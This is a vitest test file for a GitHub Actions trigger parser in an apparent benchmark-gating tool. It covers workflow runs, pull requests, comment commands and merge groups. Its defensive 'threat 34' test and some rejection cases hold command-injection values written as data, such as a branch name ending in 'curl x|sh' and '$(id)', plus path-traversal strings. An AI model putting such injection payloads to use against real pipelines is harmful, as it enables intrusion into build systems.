import { describe, expect, it } from 'vitest';
import { readTrigger } from '../../src/github/trigger.ts';
import { pullAnswer, runAnswer, user } from '../support/github-answers.ts';
import { HEAD } from '../support/github-port.ts';

const ENV = {
  GITHUB_REPOSITORY: 'acme/shop',
  GITHUB_RUN_ID: '99',
  GITHUB_RUN_ATTEMPT: '2',
  GITHUB_WORKFLOW_REF: 'acme/shop/.github/workflows/benchgate.yml@refs/pull/7/merge',
  GITHUB_SERVER_URL: 'https://github.com',
};

const ended = (parts: object = {}, action = 'completed') => ({ action, workflow_run: runAnswer(42, parts) });
const none = (event: string, payload: unknown, env: Readonly<Record<string, string>> = ENV) => {
  const trigger = readTrigger(event, payload, env);
  expect(trigger).toMatchObject({ kind: 'none', why: expect.stringMatching(/^[A-Z].*\.$/) });
};

describe('readTrigger', () => {
  it('takes a run that has ended, of the repository it belongs to', () => {
    const path = '.github/workflows/benchgate-measure.yml@refs/heads/main';
    expect(readTrigger('workflow_run', ended({ path }), ENV)).toEqual({
      kind: 'run',
      repository: 'acme/shop',
      own: false,
      run: {
        id: 42,
        attempt: 1,
        event: 'pull_request',
        path: '.github/workflows/benchgate-measure.yml',
        conclusion: 'success',
        headSha: HEAD,
        headBranch: 'feature',
        headRepositoryId: 101,
        headOwner: 'ana',
        createdAt: '2026-01-01T00:00:00Z',
        updatedAt: '1970-01-01T00:00:00Z',
        url: 'https://github.com/acme/shop/actions/runs/42',
      },
    });
    expect(readTrigger('workflow_run', ended({ head_repository: null }), ENV)).toMatchObject({
      run: { headRepositoryId: null, headOwner: null },
    });
  });

  it('takes nothing of a run that is not as it must be', () => {
    none('workflow_run', ended({}, 'requested'));
    none('workflow_run', ended({ event: 'push' }));
    none('workflow_run', ended({ event: 'workflow_dispatch' }));
    for (const sha of ['main', HEAD.slice(1), `${HEAD}a`, HEAD.toUpperCase(), `${HEAD}\n`, 7])
      none('workflow_run', ended({ head_sha: sha }));
    none('workflow_run', ended({ id: '42' }));
    none('workflow_run', ended({ head_branch: 'x'.repeat(5000) }));
    none('workflow_run', { action: 'completed' });
  });

  it('threat 5: a fork’s branch called main is the fork’s', () => {
    expect(readTrigger('workflow_run', ended({ head_branch: 'main' }), ENV)).toMatchObject({
      run: { headBranch: 'main', headOwner: 'ana', headRepositoryId: 101 },
    });
  });

  it('threat 34: hostile names of branches come through as they are, for nobody to run', () => {
    for (const branch of ['a"; curl x|sh #', '-u', '$(id)', '`id`', '../..'])
      expect(readTrigger('workflow_run', ended({ head_branch: branch }), ENV)).toMatchObject({ run: { headBranch: branch } });
  });

  it('takes a pull request that was changed', () => {
    for (const action of ['opened', 'synchronize', 'reopened', 'edited', 'ready_for_review', 'closed'])
      expect(readTrigger('pull_request_target', { action, pull_request: pullAnswer() }, ENV)).toEqual({
        kind: 'pull',
        number: 7,
      });
    for (const action of ['labeled', 'unlabeled', 'converted_to_draft'])
      expect(readTrigger('pull_request_target', { action, pull_request: pullAnswer() }, ENV)).toEqual({
        kind: 'pull',
        number: 7,
      });
    for (const action of ['assigned', undefined]) none('pull_request_target', { action, pull_request: pullAnswer() });
    none('pull_request_target', { action: 'opened', pull_request: pullAnswer({ number: '7; id' }) });
  });

  it('takes a command that was written or deleted', () => {
    const comment = { id: 5, body: '/benchgate approve abc', user: user(3, 'rita') };
    const issue = { number: 7, pull_request: { url: 'x' } };
    for (const action of ['created', 'deleted'])
      expect(readTrigger('issue_comment', { action, issue, comment }, ENV)).toEqual({
        kind: 'comment',
        number: 7,
        comment: 5,
        login: 'rita',
      });
    none('issue_comment', { action: 'created', issue: { number: 7 }, comment });
    none('issue_comment', { action: 'created', issue, comment: { ...comment, body: 'see /benchgate approve' } });
    none('issue_comment', { action: 'created', issue, comment: { ...comment, body: '/benchgateapprove' } });
    none('issue_comment', { action: 'created', issue, comment: { ...comment, user: null } });
    none('issue_comment', { action: 'created', issue, comment: { ...comment, user: user(3, 'a/../b') } });
  });

  it('threat 41: an edited comment is no command', () => {
    const issue = { number: 7, pull_request: {} };
    const comment = { id: 5, body: '/benchgate approve abc', user: user(3, 'rita') };
    none('issue_comment', { action: 'edited', issue, comment });
    none('issue_comment', { action: 'edited', issue, comment, changes: { body: { from: 'a remark' } } });
  });

  it('threat 41: a command that was edited away is decided on anew, whatever it became', () => {
    const issue = { number: 7, pull_request: {} };
    const changes = { body: { from: '/benchgate approve abc' } };
    for (const body of ['', 'never mind', '/benchgate approve abc'])
      expect(
        readTrigger('issue_comment', { action: 'edited', issue, comment: { id: 5, body, user: user(3, 'rita') }, changes }, ENV),
      ).toEqual({ kind: 'comment', number: 7, comment: 5, login: 'rita' });
  });

  it('takes this very run for a pull request', () => {
    const payload = { action: 'opened', pull_request: { ...pullAnswer(), updated_at: '2026-01-01T00:00:00Z' } };
    expect(readTrigger('pull_request', payload, ENV)).toEqual({
      kind: 'run',
      repository: 'acme/shop',
      own: true,
      run: {
        id: 99,
        attempt: 2,
        event: 'pull_request',
        path: '.github/workflows/benchgate.yml',
        conclusion: null,
        headSha: HEAD,
        headBranch: 'feature',
        headRepositoryId: 101,
        headOwner: 'ana',
        createdAt: '2026-01-01T00:00:00Z',
        updatedAt: '2026-01-01T00:00:00Z',
        url: 'https://github.com/acme/shop/actions/runs/99',
      },
    });
    none('pull_request', { ...payload, action: 'closed' });
    none('pull_request', payload, { ...ENV, GITHUB_WORKFLOW_REF: 'evil/shop/.github/workflows/benchgate.yml@refs/heads/x' });
    none('pull_request', payload, {});
  });

  it('takes this very run for a merge group', () => {
    const group = { head_sha: HEAD, head_ref: `refs/heads/gh-readonly-queue/main/pr-7-${HEAD}`, base_sha: HEAD };
    const repository = { id: 100, full_name: 'acme/shop', owner: user(9, 'acme') };
    expect(readTrigger('merge_group', { action: 'checks_requested', merge_group: group, repository }, ENV)).toMatchObject({
      kind: 'run',
      own: true,
      run: {
        event: 'merge_group',
        headSha: HEAD,
        headBranch: `gh-readonly-queue/main/pr-7-${HEAD}`,
        headOwner: 'acme',
        headRepositoryId: 100,
      },
    });
    none('merge_group', { merge_group: { ...group, head_sha: 'x' }, repository });
  });

  it('looks at a pull request whose review changed, where measuring and deciding are one workflow', () => {
    for (const action of ['submitted', 'dismissed', 'edited'])
      expect(readTrigger('pull_request_review', { action, pull_request: { number: 7 } }, ENV)).toEqual({
        kind: 'pull',
        number: 7,
      });
    none('pull_request_review', { action: 'other', pull_request: { number: 7 } });
    none('pull_request_review', { action: 'submitted', pull_request: { number: -7 } });
  });

  it('looks at everything on a schedule and when asked to, and at nothing else', () => {
    expect(readTrigger('schedule', {}, {})).toEqual({ kind: 'sweep', workflow: null });
    expect(readTrigger('schedule', {}, ENV)).toMatchObject({ kind: 'sweep' });
    expect(readTrigger('workflow_dispatch', null, {})).toEqual({ kind: 'sweep', workflow: null });
    for (const event of ['push', '', 'pull_request_review', '__proto__']) none(event, ended());
    for (const payload of [null, undefined, 7, 'x', []])
      for (const event of ['workflow_run', 'pull_request_target', 'issue_comment', 'pull_request', 'merge_group'])
        none(event, payload);
  });
});
